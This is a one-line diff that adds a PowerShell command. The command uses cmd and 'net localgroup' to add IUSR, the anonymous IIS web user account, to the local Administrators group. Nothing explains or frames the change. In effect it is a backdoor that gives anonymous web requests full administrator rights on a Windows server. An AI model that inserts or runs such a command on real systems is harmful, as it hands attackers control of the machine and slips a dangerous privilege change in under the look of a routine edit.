@@ -1,0 +1,1 @@
+Start-Process cmd -ArgumentList '/s /c "net localgroup "Administrators" IUSR /add"' -Wait
